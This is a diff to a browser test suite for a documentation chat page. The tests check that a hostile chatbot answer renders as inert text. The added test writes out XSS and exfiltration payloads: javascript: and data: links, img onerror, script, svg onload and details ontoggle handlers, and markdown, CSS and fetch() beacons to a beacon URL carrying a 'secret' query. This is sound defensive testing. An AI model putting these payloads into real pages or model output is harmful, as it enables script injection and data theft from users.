@@ -169,6 +169,14 @@ describe.skipIf(SKIP)('docs-chat page in Chromium', () => {
     expect(await badge.isVisible()).toBe(true);
     expect(await badge.textContent()).toContain('Offline mode');
     expect(await badge.textContent()).toContain('OPENAI_API_KEY');
+    expect(await badge.textContent()).toContain('OPENAI_BASE_URL');
+    // The empty input suggests a question about the served documents (the fixture corpus).
+    expect(await page.getByTestId('input').getAttribute('placeholder')).toBe(
+      'What does “Budgets” cover?',
+    );
+    // The answer's markdown is rendered: its quotes are list items, not "- " lines.
+    expect(await message.getByTestId('message-text').locator('li').count()).toBeGreaterThan(0);
+    expect(finalText).not.toMatch(/^- /m);
 
     // A citation in the text opens the panel with the chunk the server cited.
     const citation = message.getByTestId('citation').first();
@@ -398,6 +406,15 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
         `<iframe src="${beam}&via=iframe"></iframe>`,
         "[click me](javascript:window.__pwned='javascript-link')",
         `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
+        '',
+        '| Limit | Default |',
+        '| --- | ---: |',
+        '| tokens | 2,000,000 |',
+        '',
+        '```ts',
+        "const budget = createBudget({ limit: 1, note: '<script>' });",
+        '```',
+        '',
         'That is all about budgets.',
       ].join('\n');
       return {
@@ -423,9 +440,24 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
     if (userDataDir) await rm(userDataDir, { recursive: true, force: true });
   });
 
-  it('loads nothing, runs nothing, and shows the markup as text', async () => {
+  /** A page that records every request to another origin and every dialog. */
+  async function watchedPage(): Promise<{ page: Page; foreign: string[]; dialogs: string[] }> {
     const page = await context.newPage();
+    const foreign: string[] = [];
+    const dialogs: string[] = [];
+    page.on('request', (request) => {
+      if (new URL(request.url()).origin !== new URL(app.url).origin) foreign.push(request.url());
+    });
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      dialog.dismiss().catch(() => {});
+    });
     await page.goto(app.url);
+    return { page, foreign, dialogs };
+  }
+
+  it('loads nothing, runs nothing, and shows the markup as text', async () => {
+    const { page, foreign, dialogs } = await watchedPage();
     await page.getByTestId('new-chat').click();
     await page.getByTestId('input').fill('How do budgets work?');
     await page.getByTestId('send').click();
@@ -444,6 +476,15 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
       if (!(await view.count())) continue;
       expect(await view.locator('img, script, iframe, svg, object, embed, image').count()).toBe(0);
     }
+    // The table and the highlighted code block render, in the streamed and the restored answer.
+    for (const view of [message.getByTestId('message-text'), restored]) {
+      if (!(await view.count())) continue;
+      expect(await view.locator('th').allTextContents()).toEqual(['Limit', 'Default']);
+      expect(await view.locator('td').allTextContents()).toEqual(['tokens', '2,000,000']);
+      const code = view.locator('pre code.language-ts');
+      expect(await code.locator('.hljs-keyword').count()).toBeGreaterThan(0);
+      expect(await code.textContent()).toContain("note: '<script>'");
+    }
     const text = (await restored.textContent()) ?? '';
     expect(text).toContain('Budgets are per user and per day.');
     expect(text).toContain('That is all about budgets.');
@@ -454,6 +495,8 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
     await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
     expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
     expect(beaconHits).toEqual([]);
+    expect(foreign).toEqual([]);
+    expect(dialogs).toEqual([]);
     await page.close();
 
     // The control: the same answer rendered as HTML in a blank page loads the beacon, with the
@@ -472,5 +515,59 @@ describe.skipIf(SKIP)('docs-chat page in Chromium, rendering a hostile answer', 
     await vi.waitFor(() => expect(beaconHits.length).toBeGreaterThan(0), { timeout: WAIT_MS });
     expect(beaconHits[0]).toContain(encodeURIComponent('How do budgets work?'));
     await blank.close();
+  });
+
+  it('renders hostile markdown and HTML that reached the page unguarded without running or loading it', async () => {
+    const { page, foreign, dialogs } = await watchedPage();
+    // Its own path: the control of the test before loads the beacon on purpose.
+    const beam = `${beaconUrl}/unguarded?q=secret`;
+    const hostile = [
+      `![md image](${beam}&via=markdown-image)`,
+      `![ref image][beacon]`,
+      `![protocol-relative](//${new URL(beaconUrl).host}/unguarded?via=protocol-relative)`,
+      `<${beam}&via=autolink>`,
+      `[link](${beam}&via=markdown-link)`,
+      "[js](javascript:alert('markdown-link'))",
+      '[encoded js](&#x6A;avascript:alert(1))',
+      "[data](data:text/html,<script>alert('data')</script>)",
+      `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
+      "<script>window.__pwned = 'script'</script>",
+      `<iframe src="${beam}&via=iframe"></iframe>`,
+      `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
+      `<a href="${beam}&via=html-link">html link</a>`,
+      '<details open ontoggle="window.__pwned = \'details\'">x</details>',
+      `<style>body { background: url(${beam}&via=style) }</style>`,
+      '[allowed](https://docs.example.com/guide)',
+      '| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | `<b>` |',
+      `\`\`\`html\n<script>fetch('${beam}&via=code')</script>\n\`\`\``,
+      `[beacon]: ${beam}&via=reference-definition`,
+    ].join('\n\n');
+    // The renderer the page uses for every answer, fed directly: what the output guard
+    // neutralises upstream must not run or load here either.
+    await page.evaluate(`import('/render.js').then(({ renderMarkdown }) => {
+      const box = document.createElement('div');
+      box.id = 'rendered';
+      box.append(renderMarkdown(${JSON.stringify(hostile)}, ['docs.example.com']));
+      document.body.append(box);
+    })`);
+    await page.waitForLoadState('networkidle');
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
+    const box = page.locator('#rendered');
+    expect(
+      await box.locator('img, script, iframe, svg, image, style, object, embed, details').count(),
+    ).toBe(0);
+    const hrefs = await box
+      .locator('a[href]')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
+    expect(hrefs).toEqual(['https://docs.example.com/guide']);
+    expect(await box.locator('a[href]').getAttribute('rel')).toContain('noopener');
+    expect(await box.locator('td').first().textContent()).toBe('<img src=x onerror=alert(1)>');
+    expect(await box.locator('pre code').textContent()).toContain('<script>fetch(');
+    expect(await box.textContent()).toContain('(image removed: md image)');
+    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
+    expect(dialogs).toEqual([]);
+    expect(foreign).toEqual([]);
+    expect(beaconHits.filter((hit) => hit.startsWith('/unguarded'))).toEqual([]);
+    await page.close();
   });
 });
